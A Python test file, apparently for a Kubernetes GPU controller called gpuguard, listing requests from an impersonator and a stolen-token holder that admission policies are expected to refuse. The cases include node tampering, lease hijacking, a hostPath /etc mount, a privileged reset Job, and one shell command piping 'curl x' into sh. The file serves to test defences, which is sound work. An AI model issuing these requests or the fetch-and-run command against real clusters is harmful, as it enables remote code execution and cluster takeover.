"""Two attackers who act *as gpuguard*: one who impersonates its service account (the built-in
``edit`` role grants ``impersonate`` on serviceaccounts, not on ``userextras``: no pod-bound
claims), and one who stole the controller pod's real, pod-bound token (every claim present):
what the token can still not do."""

from __future__ import annotations

from gpuguard.model import remediation
from tests import admission, chart
from tests.hostile import objects as o
from tests.hostile import own
from tests.hostile.model import Case

IMP = "impersonated-gpuguard"
STOLEN = "stolen-controller-token"
ID = {"gpuguard-identity": ["identity"]}
ISOLATE = (o.cordon(True), o.annotate(**o.ISOLATED))
SEGMENT = o.config_map("gpuguard-ledger-2026-09-0", {"gpuguard.io/ledger": "segment"})
RULE = o.taint_rule(f"gpuguard-gpu-node-a-{o.CARD.lower()}",
                    labels={"app.kubernetes.io/part-of": "gpuguard"})
AGENT_NODE_TOKEN_ON_A = {**o.AGENT_TOKEN, "authentication.kubernetes.io/node-name": ["gpu-node-a"]}


def _imp(name: str, tries: str, refused: dict[str, list[str]], obj: o.Obj | None,
         operation: str = "CREATE", old: o.Obj | None = None, extra: dict[str, list[str]] | None
         = None, user: str = o.GPUGUARD, subresource: str = "") -> Case:
    return Case(IMP, name, tries, obj, user, {**ID, **refused}, operation=operation, old=old,
                extra=extra, subresource=subresource)


IMPERSONATED = [
    _imp("isolates-a-healthy-node", "cordons and marks a node as gpuguard's isolation", {},
         o.changed(o.node(), *ISOLATE), "UPDATE", o.node()),
    _imp("forges-a-burnin-verdict", "writes verdict=pass on an isolated node", {},
         o.changed(o.node(True, annotations=o.ISOLATED), o.annotate(verdict="pass")), "UPDATE",
         o.node(True, annotations=o.ISOLATED)),
    _imp("returns-an-isolated-node", "uncordons and removes gpuguard's marks", {},
         o.changed(o.node(True, annotations=o.ISOLATED), o.cordon(False),
                   o.annotate(**dict.fromkeys(o.ISOLATED))), "UPDATE",
         o.node(True, annotations=o.ISOLATED)),
    _imp("relabels-the-device-plugin", "shows the isolated GPU to the plugin again", {},
         o.changed(o.node(labels={"gpuguard.io/device-plugin": "excluding"}),
                   o.label(**{"gpuguard.io/device-plugin": None})), "UPDATE",
         o.node(labels={"gpuguard.io/device-plugin": "excluding"})),
    _imp("appends-to-the-ledger", "writes a card's history", {}, SEGMENT, "UPDATE", SEGMENT),
    _imp("creates-a-ledger-segment", "a new segment", {}, SEGMENT),
    _imp("lifts-a-dra-taint", "deletes gpuguard's DeviceTaintRule", {}, None, "DELETE", RULE),
    _imp("forges-a-dra-taint", "creates gpuguard's rule on a healthy card", {}, RULE),
    _imp("takes-the-lease", "holds the leader Lease", {"gpuguard-leader": ["leader-self"]},
         o.lease("attacker"), "UPDATE", o.lease(admission.CONTROLLER_POD)),
    _imp("creates-an-evidence-job", "gpuguard's evidence Job", {}, admission.evidence()),
    _imp("creates-a-burnin-job", "a burn-in of gpuguard's name", {}, admission.burnin()),
    _imp("evicts-a-pod", "evicts a tenant's pod", {}, {
        "apiVersion": "policy/v1", "kind": "Eviction",
        "metadata": {"name": "trainer-0", "namespace": "team-a"}}, subresource="eviction"),
    _imp("agent-writes-gpu-gone", "GpuFallenOffBus on any node as the agent, impersonated",
         {"gpuguard-node-conditions": ["node-conditions-own-node"]},
         o.changed(o.node(), o.status_condition("GpuFallenOffBus")), "UPDATE",
         o.changed(o.node(), lambda n: n.update(status={})), user=o.AGENT,
         subresource="status"),
    _imp("claims-only-a-node-name", "impersonation with only a forged node-name extra", {},
         o.changed(o.node(), *ISOLATE), "UPDATE", o.node(),
         extra={"authentication.kubernetes.io/node-name": ["cpu-node-a"]}),
]


def _stolen(name: str, tries: str, refused: dict[str, list[str]], obj: o.Obj | None,
            operation: str = "UPDATE", old: o.Obj | None = None,
            subresource: str = "") -> Case:
    return Case(STOLEN, name, tries, obj, o.GPUGUARD, refused, operation=operation, old=old,
                extra=o.POD_TOKEN, subresource=subresource)


SCOPE = "gpuguard-node-scope"
N = o.node()
def _reset_c(job: o.Obj) -> o.Obj:
    container: o.Obj = job["spec"]["template"]["spec"]["containers"][0]
    return container


GPU_RESETS: list[tuple[str, str, list[str], o.Change]] = [
    ("on-another-node", "the CAP_SYS_ADMIN reset Job pinned to a node whose card is in use",
     ["node"], lambda j: j["spec"]["template"]["spec"].update(nodeName="gpu-node-c")),
    ("with-a-shell", "the reset Job's account and capability running a shell",
     ["command", "env", "capabilities", "security-context"],
     lambda j: _reset_c(j).update(command=["sh", "-c", "nvidia-smi -r; curl x | sh"])),
    ("of-every-card", "`nvidia-smi -r` with every GPU of the node visible",
     ["env"], lambda j: _reset_c(j)["env"][0].update(value="all")),
    ("privileged", "the reset Job privileged (every host device)",
     ["privileges"], lambda j: _reset_c(j)["securityContext"].update(privileged=True)),
]
"""The GPU-reset Job (CAP_SYS_ADMIN, docs/security.md#the-gpu-reset-job) in another shape,
created with gpuguard's own token: with remediation.gpu_reset_pools on, refused all the same."""

STOLEN_TOKEN = [
    _stolen("taints-a-node", "NoSchedule taint steers tenants elsewhere",
            {SCOPE: ["node-scope-spec"]}, o.changed(N, o.spec(taints=[
                {"key": "x", "value": "y", "effect": "NoSchedule"}])), old=N),
    _stolen("removes-the-control-plane-taint", "tenants onto control-plane nodes",
            {SCOPE: ["node-scope-spec"]}, o.changed(o.node(name="cp-1"), o.spec(taints=[])),
            old=o.changed(o.node(name="cp-1"), o.spec(taints=[
                {"key": "node-role.kubernetes.io/control-plane", "effect": "NoSchedule"}]))),
    _stolen("labels-a-node-control-plane", "a node-role label", {SCOPE: ["node-scope-metadata"]},
            o.changed(N, o.label(**{"node-role.kubernetes.io/control-plane": ""})), old=N),
    _stolen("changes-a-topology-label", "moves a node to another zone",
            {SCOPE: ["node-scope-metadata"]},
            o.changed(N, o.label(**{"topology.kubernetes.io/zone": "z9"})), old=N),
    _stolen("removes-a-tenant-label", "removes nvidia.com/gpu.present",
            {SCOPE: ["node-scope-metadata"]},
            o.changed(N, o.label(**{"nvidia.com/gpu.present": None})), old=N),
    _stolen("writes-another-annotation", "a foreign annotation (cluster-autoscaler's)",
            {SCOPE: ["node-scope-metadata"]}, o.changed(N, o.annotate(**{
                "cluster-autoscaler.kubernetes.io/scale-down-disabled": "true"})), old=N),
    _stolen("changes-provider-id", "spec.providerID", {SCOPE: ["node-scope-spec"]},
            o.changed(N, o.spec(providerID="aws:///us-east-1a/i-0")), old=N),
    _stolen("changes-pod-cidr", "spec.podCIDR", {SCOPE: ["node-scope-spec"]},
            o.changed(N, o.spec(podCIDR="10.0.9.0/24")),
            old=o.changed(N, o.spec(podCIDR="10.0.1.0/24"))),
    _stolen("adds-a-finalizer", "a finalizer that blocks deletion", {SCOPE: ["node-scope-spec"]},
            o.changed(N, lambda n: n["metadata"].update(finalizers=["x.io/block"])), old=N),
    _stolen("creates-a-node", "registers a fake GPU node", {
        SCOPE: ["node-scope-lifecycle"], "gpuguard-node-integrity": ["node-create"]},
            o.changed(o.node(name="gpu-node-fake"), o.label(**{"gpuguard.io/fit-to-train": "yes"})),
            operation="CREATE"),
    _stolen("deletes-a-node", "deletes a healthy node", {SCOPE: ["node-scope-lifecycle"]},
            None, operation="DELETE", old=N),
    _stolen("writes-a-node-condition", "GpuFallenOffBus as the controller",
            {SCOPE: ["node-scope-spec"], "gpuguard-node-conditions": ["node-conditions"]},
            o.changed(o.node(), lambda n: n.update(status={}), o.status_condition(
                "GpuFallenOffBus")), old=o.changed(o.node(), lambda n: n.update(status={})),
            subresource="status"),
    *(Case(STOLEN, name, tries, o.changed(own.READY, o.status_condition(kind, to)),
           o.GPUGUARD, {SCOPE: ["node-scope-spec"]}, operation="UPDATE", old=own.READY,
           extra=o.POD_TOKEN, subresource="status", values=vals)
      for name, tries, kind, to, vals in (
          ("hand-off-marks-a-node-not-ready", "Ready=False with the hand-off's status patch",
           "Ready", "False", own.HAND_OFF),
          ("hand-off-condition-without-the-opt-in", "the hand-off's condition, not opted in",
           remediation.HAND_OFF_CONDITION, "True", None))),
    _stolen("names-another-holder", "keeps a replica of its own as leader",
            {"gpuguard-leader": ["leader-self"]}, o.lease("gpuguard-attacker-0"),
            old=o.lease(admission.CONTROLLER_POD)),
    _stolen("deletes-the-lease", "deletes the Lease (split brain)",
            {"gpuguard-leader": ["leader-self"]}, None, operation="DELETE",
            old=o.lease(admission.CONTROLLER_POD)),
    _stolen("writes-another-lease", "another Lease in gpuguard's namespace",
            {"gpuguard-leader": ["leader-self"]}, o.lease(admission.CONTROLLER_POD, name="x"),
            operation="CREATE"),
    _stolen("burnin-with-system-priority", "a burn-in that preempts tenants",
            {"gpuguard-jobs": ["pod-fields"]}, o.changed(
                admission.burnin(), lambda j: j["spec"]["template"]["spec"].update(
                    priorityClassName="system-node-critical")), operation="CREATE"),
    _stolen("burnin-with-host-etc", "a burn-in with host /etc",
            {"gpuguard-jobs": ["volumes", "mounts"]}, o.changed(
                admission.burnin(), lambda j: j["spec"]["template"]["spec"].update(volumes=[
                    {"name": "etc", "hostPath": {"path": "/etc", "type": "Directory"}}]),
                lambda j: j["spec"]["template"]["spec"]["containers"][0].update(volumeMounts=[
                    {"name": "etc", "mountPath": "/host/etc"}])), operation="CREATE"),
    _stolen("rewrites-settings", "gpuguard-settings (the Prometheus URL)",
            {"gpuguard-ledger": ["ledger-only"]}, o.config_map("gpuguard-settings"),
            old=o.config_map("gpuguard-settings")),
    _stolen("taints-another-drivers-device", "a DeviceTaintRule on a NIC",
            {"gpuguard-dra-taints": ["dra-taint-one-device"]}, o.changed(
                RULE, lambda r: r["spec"]["deviceSelector"].update(driver="nic.example.com")),
            operation="CREATE"),
    _stolen("lifts-a-vendors-taint", "deletes another tool's DeviceTaintRule",
            {"gpuguard-dra-taints": ["dra-taint-own-rules"]}, None, operation="DELETE",
            old=o.taint_rule("vendor-maintenance", key="vendor.example/maint")),
    *(Case(STOLEN, f"gpu-reset-{name}", tries, o.changed(admission.gpu_reset(), change),
           o.GPUGUARD, {"gpuguard-jobs": rules}, extra=o.POD_TOKEN,
           values=chart.with_gpu_reset()) for name, tries, rules, change in GPU_RESETS),
]

CASES = [*IMPERSONATED, *STOLEN_TOKEN]
